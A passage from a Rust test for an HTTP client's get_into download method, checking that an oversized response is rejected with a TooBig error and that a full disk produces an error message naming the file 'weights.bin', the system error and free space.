    let got = client.get_into(&url, 1000, &mut sink, &mut |_, _| {});
    assert!(matches!(got, Err(HttpError::TooBig { .. })), "{got:?}");
    assert!(sink.is_empty());

    // A full disk: the error names the URL and what the system said.
    struct Full;
    impl Write for Full {
        fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
            Err(std::io::Error::new(std::io::ErrorKind::StorageFull, "no space left on device"))
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let err = client.get_into(&url, 1 << 20, &mut Full, &mut |_, _| {}).unwrap_err();
    assert_eq!(err.code(), "http_keep");
    let msg = err.to_string();
    assert!(msg.contains("weights.bin") && msg.contains("no space left") && msg.contains("free space"), "{msg}");
}
